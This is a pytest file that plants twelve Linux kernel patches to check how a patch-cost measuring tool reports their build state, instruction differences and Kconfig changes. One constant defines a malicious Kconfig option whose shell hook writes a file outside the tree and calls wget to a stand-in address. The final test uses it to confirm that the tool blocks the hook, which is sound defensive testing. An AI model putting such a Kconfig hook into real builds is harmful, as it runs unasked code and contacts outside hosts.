"""A series of twelve patches of ours on a real source: each is told as what it is, and the sums are exact.

Kernels and trees are the user's own cache's, so that what was built once is not built again. What costs
instructions is `nop`s in functions that a workload executes.
"""

import json
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from tests.support.series import NOPS, Planted, run

pytestmark = [pytest.mark.slow, pytest.mark.guest, pytest.mark.timeout(6 * 3600)]
WORKLOADS = ("fork", "pipe", "open", "stat", "syscall")
OPTION = 'config KTRIAL_PLANTED\n\tbool "Say who the parent is more slowly"\n\tdefault y\n\n'
PID = "\tpid = task_tgid_vnr(rcu_dereference(current->real_parent));\n"
STATX = "\terror = filename_lookup(dfd, filename, lookup_flags, &path, NULL);\n"
ACCESSED = "\t\tfile_accessed(filp);\n"
EVIL = "config KTRIAL_EVIL\n\tdef_bool $(shell,touch {place} && echo y; wget -T 1 -q 192.0.2.1; echo n)\n\n"


def twelve(place: Path) -> Path:
    """The twelve patches, as a quilt series."""
    planted = Planted(place)
    fork = "\tconst u64 clone_flags = args->flags;\n\tstruct nsproxy *nsp = current->nsproxy;\n"
    planted.patch("read of a pipe notes no access", "fs/pipe.c", ACCESSED, "\t\t;\n")
    planted.patch(
        "documentation", "Documentation/mm/slub.rst", "Short users guide for SLUB", "Users guide of SLUB"
    )
    planted.patch("fork", "kernel/fork.c", fork, f"{fork}\n\t{NOPS.format(count=FORK)}\n")
    planted.patch("arm64", "arch/arm64/kernel/time.c", "#include <linux/export.h>\n", "")
    planted.patch("stat", "fs/stat.c", STATX, f"\t{NOPS.format(count=100)}\n{STATX}")
    planted.patch(
        "does not compile",
        "mm/mmap.c",
        "\tstruct mm_struct *mm = current->mm;\n\tvm_flags_t vm_flags;\n",
        "\tstruct mm_struct *mm = planted;\n\tvm_flags_t vm_flags;\n",
        stays=False,
    )
    openat = "\tint fd = build_open_flags(how, &op);\n\tstruct filename *tmp;\n"
    planted.patch("open", "fs/open.c", openat, f"{openat}\n\t{NOPS.format(count=OPEN)}\n")
    boot = "\t/*\n\t * Wait until kthreadd is all set-up.\n\t */\n"
    planted.patch("does not boot", "init/main.c", boot, f'{boot}\tpanic("planted");\n', stays=False)
    planted.patch("stat, undone", "fs/stat.c", f"\t{NOPS.format(count=100)}\n{STATX}", STATX)
    shift = '\tint "Kernel log buffer size (16 => 64KB, 17 => 128KB)"\n\trange 12 25\n\tdefault '
    planted.patch("default", "init/Kconfig", f"{shift}17\n", f"{shift}18\n")
    work = f"if (IS_ENABLED(CONFIG_KTRIAL_PLANTED)) {NOPS.format(count=50)}"
    _with_option(planted, work)
    planted.patch(
        "a driver that is off",
        "drivers/net/dummy.c",
        "/* dummy.c: a dummy net driver\n",
        "/* dummy.c: a net driver\n",
    )
    return planted.write()


FORK, OPEN = 800, 10
"""About 1 % of a fork, and 0.3 % of opening and closing a file, of the guest configuration's 6.1."""


def _with_option(planted: Planted, work: str) -> None:
    """One patch of two files: an option, and what it switches on."""
    planted.patch("new option", "kernel/sys.c", PID, f"{PID.rstrip()} {work}\n")
    menu = 'menu "General setup"\n'
    planted.patch("its Kconfig", "init/Kconfig", menu, f"{menu}\n{OPTION}")
    one, two = planted.names[-2:]
    added = (planted.place / two).read_text().partition("---\n")[2]
    (planted.place / one).write_text((planted.place / one).read_text() + added)
    (planted.place / two).unlink()
    planted.names.pop()


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """What the command says of the twelve, as JSON."""
    place = tmp_path_factory.mktemp("series")
    (place / "q").mkdir()
    twelve(place / "q")
    done = run(place, "--quilt", "q", "--workload", ",".join(WORKLOADS), "--perturbations", "1", "--json")
    assert done.returncode == 1, done.stderr
    answer: dict[str, Any] = json.loads(done.stdout)
    return answer


def patch_of(told: dict[str, Any], name: str) -> dict[str, Any]:
    patches: list[dict[str, Any]] = [one for one in told["patches"] if one["subject"] == f"planted: {name}"]
    (one,) = patches
    return one


def cell_of(told: dict[str, Any], name: str, workload: str) -> dict[str, Any]:
    cells: list[dict[str, Any]] = patch_of(told, name)["cells"]
    (one,) = [cell for cell in cells if cell["workload"] == workload]
    return one


@pytest.mark.parametrize(
    ("name", "state"),
    [
        ("read of a pipe notes no access", "built"),
        ("documentation", "not compiled"),
        ("fork", "built"),
        ("arm64", "not compiled"),
        ("stat", "built"),
        ("does not compile", "does not build"),
        ("open", "built"),
        ("does not boot", "does not boot"),
        ("stat, undone", "built"),
        ("default", "built"),
        ("new option", "built"),
        ("a driver that is off", "not compiled"),
    ],
)
def test_each_patch_is_told_as_what_it_is(name: str, state: str, told: dict[str, Any]) -> None:
    assert patch_of(told, name)["state"] == state


@pytest.mark.parametrize(
    ("name", "workload", "function"),
    [
        ("read of a pipe notes no access", "pipe", "pipe_read"),
        ("fork", "fork", "copy_process"),
        ("stat", "stat", "vfs_statx"),
        ("open", "open", "do_sys_openat2"),
        ("stat, undone", "stat", "vfs_statx"),
        ("new option", "syscall", "getppid"),
    ],
)
def test_the_culprit_stands_first_in_its_cell(
    name: str, workload: str, function: str, told: dict[str, Any]
) -> None:
    first, *_ = cell_of(told, name, workload)["functions"]
    assert function in first["function"]
    assert first["changed"]


@pytest.mark.parametrize("workload", WORKLOADS)
def test_the_steps_add_up_to_the_last_instruction(workload: str, told: dict[str, Any]) -> None:
    (total,) = [one for one in told["totals"] if one["workload"] == workload]
    cells = [cell for patch in told["patches"] for cell in patch["cells"] if cell["workload"] == workload]
    assert sum(Fraction(cell["difference"]) for cell in cells) == Fraction(total["difference"])
    assert told["exact"]


def test_what_is_undone_takes_back_what_it_was(told: dict[str, Any]) -> None:
    there, back = (Fraction(cell_of(told, name, "stat")["difference"]) for name in ("stat", "stat, undone"))
    assert there == pytest.approx(100, abs=10)
    assert there + back == pytest.approx(0, abs=5)


def test_options_that_a_patch_changes_or_brings_are_told(told: dict[str, Any]) -> None:
    (changed,) = patch_of(told, "default")["options"]
    assert (changed["option"], changed["before"], changed["after"]) == ("LOG_BUF_SHIFT", "17", "18")
    (new,) = patch_of(told, "new option")["options"]
    assert (new["option"], new["after"], new["new"]) == ("KTRIAL_PLANTED", "y", True)


def test_what_breaks_names_its_cause_and_is_left_out(told: dict[str, Any]) -> None:
    assert "planted" in patch_of(told, "does not compile")["why"]
    assert "planted" in patch_of(told, "does not boot")["why"]
    assert patch_of(told, "does not compile")["left_out"]
    assert patch_of(told, "does not boot")["left_out"]


def test_a_kconfig_that_writes_outside_and_opens_a_socket_does_neither(tmp_path: Path) -> None:
    place = tmp_path / "outside"
    planted = Planted(tmp_path)
    menu = 'menu "General setup"\n'
    planted.patch("evil", "init/Kconfig", menu, f"{menu}\n{EVIL.format(place=place)}")
    planted.write()
    done = run(tmp_path, "--quilt", ".", "--workload", "syscall", "--perturbations", "1", "--json")
    assert not place.exists()
    (one,) = json.loads(done.stdout)["patches"]
    assert "KTRIAL_EVIL=y" not in json.dumps(one["options"])
